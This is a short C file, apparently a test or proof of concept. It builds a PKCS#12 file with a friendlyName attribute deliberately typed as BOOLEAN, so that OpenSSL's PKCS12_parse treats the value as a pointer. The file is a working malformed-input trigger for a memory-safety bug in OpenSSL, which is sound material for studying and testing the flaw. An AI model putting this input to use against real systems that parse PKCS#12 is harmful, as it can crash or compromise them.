/* A PKCS#12 file whose friendlyName is a BOOLEAN: its value is taken for a pointer. */
#include "session.h"
#include "issuing.h"
#include <openssl/pkcs12.h>

static PKCS12 *file;

void prepare(void)
{
    EVP_PKEY *key = EVP_EC_gen("P-256");
    X509 *certificate = issuing_new("bag", key, NULL);
    issuing_sign(certificate, key);
    PKCS12_SAFEBAG *bag = PKCS12_SAFEBAG_create_cert(certificate);
    PKCS12_add1_attr_by_NID(bag, NID_friendlyName, V_ASN1_BOOLEAN, (const unsigned char *)0xff, -1);
    STACK_OF(PKCS12_SAFEBAG) *bags = sk_PKCS12_SAFEBAG_new_null();
    sk_PKCS12_SAFEBAG_push(bags, bag);
    STACK_OF(PKCS7) *safes = NULL;
    PKCS12_add_safe(&safes, bags, -1, 0, NULL);
    file = PKCS12_add_safes(safes, 0);
    PKCS12_set_mac(file, "password", -1, NULL, 0, 1000, NULL);
}

void hole(void)
{
    EVP_PKEY *key;
    X509 *certificate;
    STACK_OF(X509) *others = NULL;
    say("parsed %d", PKCS12_parse(file, "password", &key, &certificate, &others));
}
